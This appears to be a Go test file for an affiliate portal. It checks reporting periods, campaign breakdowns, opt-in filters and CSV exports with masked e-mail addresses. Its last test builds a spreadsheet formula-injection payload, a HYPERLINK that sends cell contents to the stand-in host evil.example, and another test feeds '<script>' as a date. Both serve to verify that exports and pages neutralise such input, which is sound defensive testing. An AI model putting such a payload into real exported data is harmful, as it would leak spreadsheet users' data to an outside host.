package portal_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"tributary/internal/attribution"
)

func day(text string) time.Time {
	at, err := time.Parse(time.DateOnly, text)
	if err != nil {
		panic(err)
	}
	return at.Add(15 * time.Hour)
}

// TestAPageShowsThePeriodThatWasChosen: one click on each first and last day of every period and of the one before.
func TestAPageShowsThePeriodThatWasChosen(t *testing.T) {
	for _, c := range []struct{ query, first, last, before, words, earlier string }{
		{"", "2026-10-25", "2026-11-23", "2026-09-25", "in the last 30 days", "the 30 days before"},
		{"?range=nonsense", "2026-10-25", "2026-11-23", "2026-09-25", "in the last 30 days", "the 30 days before"},
		{"?range=7", "2026-11-17", "2026-11-23", "2026-11-10", "in the last 7 days", "the 7 days before"},
		{"?range=90", "2026-08-26", "2026-11-23", "2026-05-28", "in the last 90 days", "the 90 days before"},
		{"?range=month", "2026-11-01", "2026-11-23", "2026-10-01", "this month", "the same days of last month"},
		{"?range=last-month", "2026-10-01", "2026-10-31", "2026-09-01", "last month", "the month before"},
		{"?range=custom&from=2026-02-10&to=2026-02-19", "2026-02-10", "2026-02-19", "2026-01-31", "from 10 Feb 2026 to 19 Feb 2026", "the 10 days before"},
		{"?from=2026-02-10&to=2026-02-10", "2026-02-10", "2026-02-10", "2026-02-09", "from 10 Feb 2026 to 10 Feb 2026", "the day before"},
	} {
		t.Run(c.query, func(t *testing.T) {
			d := newDesk(t, options{})
			d.affiliate(attribution.Affiliate{ID: "42"})
			first, last, before := day(c.first), day(c.last), day(c.before)
			d.ingest(click("42", first.Add(-15*time.Hour)), click("42", last.Add(9*time.Hour-time.Millisecond)), click("42", last.Add(9*time.Hour)),
				click("42", before), optIn("42", "ann@example.com", last))
			page := d.get("/portal"+c.query, d.signIn("42"))
			clicks := `<data value="2">2</data>`
			for _, want := range []string{clicks, "What came through your link " + c.words, "100% more than in " + c.earlier, "none in " + c.earlier} {
				if !strings.Contains(page, want) {
					t.Errorf("the page does not hold %q", want)
				}
			}
		})
	}
}

func TestDaysThatMakeNoPeriodAreTold(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	d.ingest(click("42", d.now))
	cookie := d.signIn("42")
	for query, says := range map[string]string{
		"?from=2026-11-20&to=2026-11-10": "must be a date that lies before", "?from=tomorrow": "must be a date that lies before",
		"?range=custom&from=2020-01-01&to=2026-11-10": "at most 400 days", "?to=<script>": "The last day must be a date",
	} {
		for _, path := range []string{"/portal", "/portal/optins"} {
			page := d.get(path+query, cookie)
			if !strings.Contains(page, says) || !strings.Contains(page, `value="2026-10-25"`) || strings.Contains(page, "<script>") {
				t.Errorf("%s%s does not say %q, or shows other days", path, query, says)
			}
		}
	}
}

func TestLongPeriodsAreDrawnByWeeks(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	for i := range 20 {
		d.ingest(optIn("42", fmt.Sprintf("p%d@example.com", i), day("2026-11-16").AddDate(0, 0, i%7)), click("42", day("2026-11-23").AddDate(0, 0, -i*10)))
	}
	page := d.get("/portal?from=2026-05-25&to=2026-11-23", d.signIn("42")) // from a Monday to a Monday
	if n := strings.Count(page, `class="day"`); n != 27 {
		t.Errorf("the chart has %d bars, want 27 weeks", n)
	}
	if !strings.Contains(page, "The best week began on 16 Nov 2026: 20 opt-ins") {
		t.Error("the best week is not told")
	}
}

func TestAPageTellsWhatBroughtThem(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	from := func(e attribution.Event, page, campaign, subID string) attribution.Event {
		e.URL, e.UTM = page, attribution.UTM{Campaign: campaign, Content: subID}
		return e
	}
	d.ingest(
		from(click("42", d.now), "https://www.example.com/a/", "spring", "mail-1"), from(click("42", d.now), "https://www.example.com/a/", "spring", ""),
		from(optIn("42", "ann@example.com", d.now), "https://www.example.com/b", "spring", "mail-1"), from(click("42", d.now), "", "", ""),
		from(click("43", d.now), "https://foreign.example/", "foreign", "foreign"))
	cookie := d.signIn("42")
	for by, wants := range map[string][]string{
		"":         {`www.example.com/b</span>`, `www.example.com/a</span>`, "Page not known"},
		"campaign": {"spring</span>", "Without a campaign", "<td>50%</td>"},
		"sub_id":   {"mail-1</span>", "Without a sub-id", "<td>100%</td>"},
		"nonsense": {"Page not known"},
	} {
		page := d.get("/portal?by="+by, cookie)
		for _, want := range wants {
			if !strings.Contains(page, want) {
				t.Errorf("by %q the page does not hold %q", by, want)
			}
		}
		if strings.Contains(page, "foreign") {
			t.Errorf("by %q the page shows another's", by)
		}
	}
	if page := d.get("/portal?by=campaign&from=2026-01-01&to=2026-01-10", cookie); !strings.Contains(page, "Add utm_campaign=") {
		t.Error("without campaigns the page does not say how to get them")
	}
}

func TestManyCampaignsAreCutShort(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	for i := range 130 {
		e := click("42", d.now)
		e.UTM.Campaign = fmt.Sprintf("campaign-%03d", i)
		d.ingest(e)
	}
	cookie := d.signIn("42")
	page := d.get("/portal?by=campaign", cookie)
	if n := strings.Count(page, "campaign-"); n != 10 || !strings.Contains(page, "there are 120 others") {
		t.Errorf("%d campaigns on the page", n)
	}
	if page = d.get("/portal?by=campaign&all=1", cookie); strings.Count(page, "campaign-") != 100 || !strings.Contains(page, "30 others are in the file") {
		t.Errorf("%d campaigns on the page of all", strings.Count(page, "campaign-"))
	}
	if file := d.get("/portal/breakdown.csv?by=campaign", cookie); strings.Count(file, "campaign-") != 130 {
		t.Errorf("%d campaigns in the file", strings.Count(file, "campaign-"))
	}
}

func TestOptInsAreFilteredByStateAndDays(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	for i, status := range []attribution.Status{attribution.Credited, attribution.Refused, attribution.Failed, attribution.Held, attribution.Waiting} {
		d.ingest(optIn("42", fmt.Sprintf("%c%c@example.com", 'a'+i, 'a'+i), d.now.AddDate(0, 0, -20*i)))
		d.settle(status)
	}
	d.ingest(optIn("42", "ff@example.com", d.now))
	cookie := d.signIn("42")
	for query, want := range map[string]string{
		"": "fabcde", "?state=nonsense": "fabcde", "?state=credited": "a", "?state=not": "bc", "?state=held": "d", "?state=waiting": "fe",
		"?range=30": "fab", "?range=30&state=not": "b", "?from=2026-10-10&to=2026-10-20&state=not": "c", "?range=7&state=held": "",
	} {
		page, got := d.get("/portal/optins"+query, cookie), ""
		for _, part := range strings.Split(page, `class="who">`)[1:] {
			got += part[:1]
		}
		if got != want {
			t.Errorf("%q lists %q, want %q", query, got, want)
		}
		if want == "" && !strings.Contains(page, "No opt-ins being checked here.") {
			t.Errorf("%q does not say that there are none", query)
		}
	}
}

// TestARareStateOfManyIsFoundAtOnce: nobody has to look for it page by page.
func TestARareStateOfManyIsFoundAtOnce(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	d.ingest(optIn("42", "zz@example.com", d.now.AddDate(0, 0, -29)))
	d.settle(attribution.Held)
	var many []attribution.Event
	for i := range 2500 {
		many = append(many, optIn("42", fmt.Sprintf("p%d@example.com", i), d.now.Add(-time.Duration(i)*time.Second)))
	}
	d.ingest(many...)
	page := d.get("/portal/optins?state=held&range=30", d.signIn("42"))
	if !strings.Contains(page, `class="who">z`) || strings.Contains(page, `id="earlier"`) {
		t.Errorf("the first page does not have it, or leads to another: %s", page)
	}
}

func TestWhyIsSaidInPlainWords(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	first := optIn("42", "ann@example.com", d.now.AddDate(0, 0, -3))
	again := optIn("42", "ann@example.com", d.now)
	again.First, again.Latest = attribution.Touch{}, attribution.Touch{}
	nameless := optIn("42", "", d.now)
	nameless.Person, nameless.Sealed = attribution.PersonKey{}, nil
	d.ingest(first, again, nameless)
	page := d.get("/portal/optins", d.signIn("42"))
	for _, want := range []string{"Keap is asked next", "This person came through your link before.", "The form has not told the e-mail yet."} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
}

func TestFilesHoldTheNumbers(t *testing.T) {
	d := newDesk(t, options{})
	d.affiliate(attribution.Affiliate{ID: "42"})
	e := optIn("42", "ann.other@example.com", d.now)
	e.UTM = attribution.UTM{Campaign: "spring, \"early\"", Content: "mail"}
	d.ingest(click("42", d.now), click("42", d.now.AddDate(0, 0, -1)), e, optIn("43", "foreign@foreign.example", d.now))
	d.settle(attribution.Credited)
	cookie := d.signIn("42")
	for path, wants := range map[string][]string{
		"/portal/optins.csv":                {"time,e-mail,state", "2026-11-23T10:24:00Z,an•••@e•••.com,Credited to you,It stands as your referral in Keap.,https://www.example.com/webinar,", `"spring, ""early""",mail,` + e.ID.String()},
		"/portal/optins.csv?state=held":     {"time,e-mail,state"},
		"/portal/days.csv?range=7":          {"day,clicks,new visitors,opt-ins,new people,credited\n2026-11-17,0,0,0,0,0\n", "2026-11-22,1,1,0,0,0\n2026-11-23,1,1,1,1,1\n"},
		"/portal/breakdown.csv?by=campaign": {"campaign,clicks,opt-ins,credited\n\"spring, \"\"early\"\"\",0,1,1\n(Other campaigns),0,0,0\n(Without a campaign),2,0,0\n"},
	} {
		w := d.do(http.MethodGet, path, cookie)
		for _, want := range wants {
			wantStatus(t, path, w, http.StatusOK, want)
		}
		h := w.Result().Header
		if h.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.HasPrefix(h.Get("Content-Disposition"), `attachment; filename="`) || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s has the headers %v", path, h)
		}
		if body := w.Body.String(); strings.Contains(body, "other@") || strings.Contains(body, "fo•••") || !strings.HasPrefix(body, "\uFEFF") {
			t.Errorf("%s is %s", path, body)
		}
		wantStatus(t, path+" of nobody", d.do(http.MethodGet, path, nil), http.StatusUnauthorized, "not signed in")
	}
	if lines := strings.Count(d.get("/portal/optins.csv?state=held", cookie), "\n"); lines != 1 {
		t.Errorf("the file of what is held has %d lines", lines)
	}
}

// A spreadsheet runs cells that begin with these signs.
func TestNoCellOfAFileIsAFormula(t *testing.T) {
	for _, sign := range []string{"=", "+", "-", "@", "\t", "\r", "\n"} {
		d := newDesk(t, options{})
		d.affiliate(attribution.Affiliate{ID: "42"})
		formula := sign + `HYPERLINK("https://evil.example/?"&A1,"prize")`
		e := optIn("42", formula+"@example.com", d.now)
		e.UTM, e.URL = attribution.UTM{Campaign: formula, Content: formula}, formula
		d.ingest(e)
		cookie := d.signIn("42")
		for path, cells := range map[string]int{"/portal/optins.csv": 5, "/portal/breakdown.csv": 1, "/portal/breakdown.csv?by=sub_id": 1} {
			quoted := 0
			for _, cell := range cellsOf(t, d.get(path, cookie)) {
				if strings.HasPrefix(cell, sign) {
					t.Errorf("%s has the cell %q", path, cell)
				}
				if strings.HasPrefix(cell, "'"+sign) {
					quoted++
				}
			}
			if quoted < cells {
				t.Errorf("%s: %d cells are quoted, want %d", path, quoted, cells)
			}
		}
	}
}
